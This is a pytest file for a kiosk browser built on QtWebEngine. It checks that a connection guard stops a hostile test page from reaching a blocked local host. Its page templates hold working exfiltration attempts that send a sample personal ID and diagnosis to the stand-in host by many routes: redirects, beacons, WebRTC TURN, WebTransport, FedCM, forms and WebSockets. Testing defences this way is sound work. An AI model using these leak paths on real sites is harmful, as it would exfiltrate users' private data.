"""Nothing leaves for a host the site did not allow, by any path: real QtWebEngine.

A hostile page on the allowed host (127.0.0.1) tries every way out found by
the red team (issue 8) towards a blocked host on 127.0.0.2 that counts every
TCP connection it accepts, every UDP datagram and every request line. After
the page's attempts (and a sentinel frame the page asks for after them) the
blocked host must have seen nothing at all, while a control request of the same page
to the allowed host did arrive: the page worked, it just could not leave.
"""

from __future__ import annotations

import json

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QWidget

from tests.blocked_host import BlockedHost
from tests.configs import local_config
from tests.helpers.screen import page_sentinel

pytestmark = pytest.mark.webengine

HEAD = "<!doctype html><meta charset=utf-8><title>running</title>"
# The page's last act: a request to its own (allowed) host.
DONE = """<script>
async function done(extra) {
  await fetch('/control' + (extra ? '?' + extra : ''), {cache: 'no-store'}).catch(() => {});
  document.title = 'done';
}
</script>"""

REDIRECTS = HEAD + DONE + """
<link rel=stylesheet href="/r/css"><link rel=icon href="/r/favicon"><link rel=prefetch href="/r/prefetch">
<img src="/r/img"><script src="/r/script"></script><video src="/r/video" autoplay muted></video>
<script>
navigator.sendBeacon('/r/beacon', new Blob(['hetu=010101-123N&diagnosis=F32.1'],
                     {type: 'application/x-www-form-urlencoded'}));
fetch('/r/fetch', {mode: 'no-cors'}).catch(() => {});
fetch('/r/fetch-cors').catch(() => {});
new Image().src = '/r/img2';
setTimeout(() => done(), 1500);
</script>"""

PRECONNECT = HEAD + DONE + """
<link rel=preconnect href="http://{B}"><link rel=preconnect href="https://{B}" crossorigin>
<link rel=dns-prefetch href="http://{B}"><link rel=preload href="http://{B}/preload.js" as=script>
<script>setTimeout(() => done(), 1500);</script>"""

WEBRTC = HEAD + DONE + """<script>
async function run() {
  const found = [];
  const pc = new RTCPeerConnection({iceServers: [
    {urls: ['stun:{B}']},
    {urls: ['turn:{B}?transport=udp', 'turn:{B}?transport=tcp'], username: 'hetu-010101-123N',
     credential: 'x'}], iceCandidatePoolSize: 2});
  pc.onicecandidate = e => { if (e.candidate && e.candidate.candidate) found.push(e.candidate.candidate); };
  pc.createDataChannel('leak');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise(ok => setTimeout(ok, 2000));
  const sdp = pc.localDescription ? pc.localDescription.sdp : '';
  const ips = (sdp.match(/c=IN IP4 [0-9.]+/g) || []).concat(found);
  await done('c=' + encodeURIComponent(JSON.stringify(ips)));
}
run().catch(e => done('error=' + encodeURIComponent(String(e))));
</script>"""

WEBTRANSPORT = HEAD + DONE + """<script>
async function run() {
  for (const url of ['https://{B}/wt', 'https://localhost:{P}/wt']) {
    try { const wt = new WebTransport(url); await Promise.race([wt.ready, new Promise(ok => setTimeout(ok, 1500))]); }
    catch (e) {}
  }
  // From a worker too (page scripts never reach workers).
  const code = "try { new WebTransport('https://{B}/worker'); } catch (e) {} postMessage(1);";
  const w = new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
  await new Promise(ok => { w.onmessage = ok; setTimeout(ok, 1500); });
  await new Promise(ok => setTimeout(ok, 1000));
  done();
}
run();
</script>"""

FEDCM = HEAD + DONE + """<script>
async function run() {
  for (const config of ['https://{B}/fedcm.json', 'http://{B}/fedcm.json?hetu=010101-123N']) {
    try {
      await Promise.race([
        navigator.credentials.get({identity: {providers: [{configURL: config, clientId: 'kiosk',
                                                           nonce: 'hetu-010101-123N'}]}}),
        new Promise(ok => setTimeout(ok, 1500))]);
    } catch (e) {}
  }
  done();
}
run();
</script>"""

HELD = HEAD + DONE + """
<iframe src="http://{B}/frame"></iframe><iframe name=sink></iframe>
<img src="http://{B}/img"><img src="https://{B}/img"><script src="http://{B}/script.js"></script>
<form id=f method=post action="http://{B}/form" target=sink><input name=hetu value=010101-123N></form>
<script>
fetch('http://{B}/fetch', {method: 'POST', body: 'hetu=010101-123N'}).catch(() => {});
fetch('http://{B}/nocors', {mode: 'no-cors'}).catch(() => {});
const x = new XMLHttpRequest(); x.open('GET', 'http://{B}/xhr'); x.onerror = () => {}; x.send();
navigator.sendBeacon('http://{B}/beacon', 'hetu=010101-123N');
try { new WebSocket('ws://{B}/ws'); } catch (e) {}
try { new EventSource('http://{B}/events'); } catch (e) {}
document.getElementById('f').submit();
// window.open loads in the same view (refused there): last, after the control.
setTimeout(() => done().then(() => window.open('http://{B}/popup')), 1500);
</script>"""


def refused_counts(kiosk, qtbot) -> dict[str, int]:
    """The refused-host counts as the admin view reads them (storage worker + pending)."""
    box: dict = {}
    kiosk.refused_hosts.rows(lambda rows: box.update(rows=rows))
    qtbot.waitUntil(lambda: "rows" in box, timeout=5000)
    return {host: count for host, count, _day in box["rows"]}


def _page(template: str, blocked: BlockedHost) -> str:
    return template.replace("{B}", f"{blocked.host}:{blocked.port}").replace("{P}", str(blocked.port))


@pytest.fixture
def blocked():
    with BlockedHost("127.0.0.2") as host:
        yield host


def _run(make_kiosk, qtbot, web, blocked, template: str, video_hosts=(), *, leaves_page: bool = False,
         **page_headers) -> object:
    """Open the hostile page as a resident would, wait for it and its stragglers.

    `leaves_page`: the page's last act (after its control request) navigates the
    view away to a refused host; the blocked panel it brings is then the sentinel
    (a frame can no longer be asked for from that page).
    """
    url = web.add("/hostile.html", _page(template, blocked), headers=page_headers or None)
    web.add("/control", "ok", ctype="text/plain")
    kiosk = make_kiosk(local_config({"svc": url}, video_hosts=video_hosts))
    window = kiosk.window
    qtbot.mouseClick(window.findChild(QWidget, "tile-svc"), Qt.MouseButton.LeftButton)
    # The page's last act is its control request; wait for it at the server.
    qtbot.waitUntil(lambda: any(p.startswith("/control") for p in web.paths_seen()), timeout=20000)
    if leaves_page:
        qtbot.waitUntil(lambda: any(w.isVisible() for w in window.findChildren(QWidget, "blocked")), timeout=20000)
        return kiosk
    # Then a frame the same page asks for afterwards, through the same browser and
    # guard: what the page's attempts set going has gone out (or been refused) by then.
    page_sentinel(qtbot, window.findChild(QWidget, "browser"), web)
    return kiosk


def _assert_nothing_left(web, blocked) -> None:
    assert blocked.counts() == {"connections": 0, "datagrams": 0, "requests": 0}, blocked.requests
    # The control: the same page's request to its own host arrived.
    assert any(p.startswith("/control") for p in web.paths_seen()), web.paths_seen()


def _redirect_all(web, blocked, status: int) -> None:
    target = f"http://{blocked.host}:{blocked.port}"
    for name in ("css", "favicon", "prefetch", "img", "img2", "script", "video", "beacon", "fetch",
                 "fetch-cors"):
        web.add(f"/r/{name}", "", ctype="text/plain", status=status,
                headers={"Location": f"{target}/{name}?hetu=010101-123N"})


@pytest.mark.parametrize("status", [302, 307])
def test_redirects_of_page_parts_stay_home(make_kiosk, qtbot, web, blocked, status):
    """30x answers to an image, script, style sheet, favicon, prefetch, video, no-cors
    fetch or (307, with its body) beacon are not followed to the blocked host."""
    _redirect_all(web, blocked, status)
    kiosk = _run(make_kiosk, qtbot, web, blocked, REDIRECTS)
    _assert_nothing_left(web, blocked)
    assert "/r/beacon" in web.paths_seen()   # the allowed host did answer with the redirect
    # Each refused redirect was counted as a refused host, for IT's list.
    qtbot.waitUntil(lambda: refused_counts(kiosk, qtbot).get("127.0.0.2", 0) >= 1, timeout=5000)


def test_preconnect_and_dns_prefetch_open_nothing(make_kiosk, qtbot, web, blocked):
    """Tags and a Link header asking for preconnect/dns-prefetch/preload open no connection."""
    target = f"http://{blocked.host}:{blocked.port}"
    _run(make_kiosk, qtbot, web, blocked, PRECONNECT,
         Link=f"<{target}>; rel=preconnect, <https://{blocked.host}:{blocked.port}>; rel=preconnect, "
              f"<{target}>; rel=dns-prefetch")
    _assert_nothing_left(web, blocked)


def test_webrtc_sends_nothing_and_shows_no_local_address(make_kiosk, qtbot, web, blocked):
    """On a video host, STUN/TURN (UDP and TCP) towards the blocked host: no datagram,
    no connection; the candidates the page gathers carry no local address."""
    _run(make_kiosk, qtbot, web, blocked, WEBRTC, video_hosts=["127.0.0.1"])
    _assert_nothing_left(web, blocked)
    control = next(p for p in web.paths_seen() if p.startswith("/control"))
    assert "error=" not in control, control   # the page really ran WebRTC
    from urllib.parse import parse_qs, urlsplit

    seen = json.loads(parse_qs(urlsplit(control).query)["c"][0])
    candidates = [c for c in seen if "candidate" in c]
    assert not [c for c in candidates if " typ host" in c or " typ srflx" in c], candidates
    addresses = [c for c in seen if c.startswith("c=IN IP4")]
    assert all(a == "c=IN IP4 0.0.0.0" for a in addresses), addresses


def test_webtransport_sends_no_datagram(make_kiosk, qtbot, web, blocked):
    _run(make_kiosk, qtbot, web, blocked, WEBTRANSPORT)
    _assert_nothing_left(web, blocked)


def test_fedcm_fetches_nothing(make_kiosk, qtbot, web, blocked):
    _run(make_kiosk, qtbot, web, blocked, FEDCM)
    _assert_nothing_left(web, blocked)


def test_paths_that_held_still_hold(make_kiosk, qtbot, web, blocked):
    """Frames, images, scripts, fetch, XHR, beacon, web socket, form post, window.open."""
    _run(make_kiosk, qtbot, web, blocked, HELD, leaves_page=True)
    _assert_nothing_left(web, blocked)


def test_allowed_page_parts_still_load(make_kiosk, qtbot, web):
    """Through the guard the allowed host serves images, scripts and a redirect to itself."""
    web.add("/a.js", "document.title = 'script ran';", ctype="text/javascript")
    web.add("/r/self", "", ctype="text/plain", status=307, headers={"Location": "/a.js"})
    page = HEAD + "<script src='/r/self'></script>"
    kiosk = make_kiosk(local_config({"svc": web.add("/ok.html", page)}))
    qtbot.mouseClick(kiosk.window.findChild(QWidget, "tile-svc"), Qt.MouseButton.LeftButton)
    view = kiosk.window.findChild(QWidget, "browser")
    qtbot.waitUntil(lambda: view.title() == "script ran", timeout=20000)
    assert "/a.js" in web.paths_seen()


WEBRTC_PRESENT = HEAD + DONE + """<body><script>
const f = document.createElement('iframe'); f.srcdoc = '<p>inner</p>';
f.onload = () => done('outer=' + typeof RTCPeerConnection + '&inner=' + typeof f.contentWindow.RTCPeerConnection
                      + '&blank=' + typeof b.contentWindow.RTCPeerConnection);
const b = document.createElement('iframe');
document.body.append(b);
document.body.append(f);
</script>"""


@pytest.mark.parametrize("video_hosts, expected", [([], "undefined"), (["127.0.0.1"], "function")])
def test_webrtc_exists_only_on_video_hosts(make_kiosk, qtbot, web, blocked, video_hosts, expected):
    _run(make_kiosk, qtbot, web, blocked, WEBRTC_PRESENT, video_hosts=video_hosts)
    control = next(p for p in web.paths_seen() if p.startswith("/control"))
    # Not in a same-origin frame either, which a page could make to find a fresh copy.
    assert f"outer={expected}&inner={expected}&blank={expected}" in control, control


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirect_of_the_page_itself_shows_the_blocked_page(make_kiosk, qtbot, web, blocked, status):
    """A tile (or a link) whose answer redirects the whole page away: the calm blocked
    page, the host counted, and nothing reaches the blocked host; a frame likewise."""
    target = f"http://{blocked.host}:{blocked.port}"
    web.add("/r/main", "", ctype="text/plain", status=status, headers={"Location": f"{target}/main?t=1"})
    web.add("/r/frame", "", ctype="text/plain", status=status, headers={"Location": f"{target}/frame"})
    web.add("/framed.html", HEAD + DONE + "<iframe src='/r/frame'></iframe><script>setTimeout(() => done(), 1500)"
            "</script>")
    kiosk = make_kiosk(local_config({"main": web.url("/r/main"), "framed": web.url("/framed.html")}))
    w = kiosk.window
    qtbot.mouseClick(w.findChild(QWidget, "tile-main"), Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: w.findChild(QWidget, "blocked").isVisible(), timeout=15000)
    w.go_home()
    qtbot.mouseClick(w.findChild(QWidget, "tile-framed"), Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: any(p.startswith("/control") for p in web.paths_seen()), timeout=15000)
    # Both redirects were refused (counted), and a later frame of the page went through.
    qtbot.waitUntil(lambda: refused_counts(kiosk, qtbot).get("127.0.0.2", 0) >= 2,
                    timeout=5000)
    page_sentinel(qtbot, w.findChild(QWidget, "browser"), web)
    assert blocked.counts() == {"connections": 0, "datagrams": 0, "requests": 0}, blocked.requests


WEBRTC_RELAY = HEAD + DONE + """<script>
async function run() {
  const pc = new RTCPeerConnection({iceServers: [{urls: ['turn:{R}?transport=tcp', 'turn:{R}?transport=udp'],
                                                  username: 'u', credential: 'p'}]});
  pc.createDataChannel('call');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise(ok => setTimeout(ok, 2000));
  done();
}
run().catch(e => done('error=' + encodeURIComponent(String(e))));
</script>"""


def test_webrtc_on_a_video_host_reaches_an_allowed_relay_only_through_the_guard(make_kiosk, qtbot, web, blocked):
    """WebRTC still works towards a relay the site allows: over TCP, through the guard
    (which counted it as allowed), never a datagram, not even to the allowed relay."""
    from kiosk.web.connection_guard import process_guard

    with BlockedHost("127.0.0.1") as relay:
        # The test pages are plain http (forwarded, no tunnel): a new tunnel is the relay's.
        before = process_guard().tunnels
        _run(make_kiosk, qtbot, web, blocked, WEBRTC_RELAY.replace("{R}", f"127.0.0.1:{relay.port}"),
             video_hosts=["127.0.0.1"])
        qtbot.waitUntil(lambda: relay.counts()["connections"] >= 1, timeout=5000)
        assert relay.counts()["datagrams"] == 0
    assert process_guard().tunnels > before
    _assert_nothing_left(web, blocked)


def test_another_account_cannot_fill_the_admins_refused_host_counts(make_kiosk, qtbot, web):
    """A second local user opens connections to the kiosk's guard: each is closed unread, none
    is counted; the kiosk's own refusal made after them (the sentinel) is."""
    import socket

    from kiosk.web.connection_guard import process_guard
    from tests.helpers.other_user import other_user, run_as

    kiosk = make_kiosk(local_config({"svc": web.add("/page.html", HEAD)}))
    port = process_guard().port
    tries = ["CONNECT stranger-was-here.example:443 HTTP/1.1", f"GET {web.url('/page.html')} HTTP/1.1",
             f"CONNECT 127.0.0.1:{web.port} HTTP/1.1"]
    code = "import socket\n" + "".join(
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=10)\n"
        f"try:\n    s.sendall(b'{t}\\r\\nHost: x\\r\\n\\r\\n')\n    print(repr(s.recv(1024)))\n"
        f"except OSError as e:\n    print('closed')\n"
        for t in tries)
    with other_user() as user:
        answers = run_as(user, code).splitlines()
    assert answers and all(a in ("b''", "closed") for a in answers), answers   # no answer at all
    with socket.create_connection(("127.0.0.1", port), timeout=5) as own:
        own.sendall(b"CONNECT sentinel.digipiste-test.example:443 HTTP/1.1\r\n\r\n")
        assert own.recv(1024).startswith(b"HTTP/1.1 403")
    qtbot.waitUntil(lambda: "sentinel.digipiste-test.example" in refused_counts(kiosk, qtbot), timeout=5000)
    assert "stranger-was-here.example" not in refused_counts(kiosk, qtbot)
    assert web.paths_seen() == []
